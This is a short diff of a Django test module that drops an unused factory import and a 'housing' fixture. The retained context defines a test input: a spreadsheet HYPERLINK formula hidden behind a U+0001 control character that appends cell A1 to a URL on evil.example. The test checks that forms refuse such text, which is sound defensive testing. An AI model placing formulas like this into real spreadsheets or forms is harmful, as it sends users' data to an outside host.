@@ -12,18 +12,12 @@ from core.forms import refuse_control_characters
 from forums.factories import ThreadFactory
 from forums.models import Thread
 from gaps.models import DataGap
-from themes.factories import ThemePageFactory
 
 pytestmark = pytest.mark.django_db
 
 # A spreadsheet formula behind an invisible character, as pasted into a form.
 FORMULA = '\x01=HYPERLINK("https://evil.example/?"&A1, "Click")'
 REFUSED = "Remove the hidden control character (U+0001) from this text"
-
-
-@pytest.fixture
-def housing(theme_index):
-    return ThemePageFactory(parent=theme_index, title="Housing", slug="housing")
 
 
 @pytest.fixture
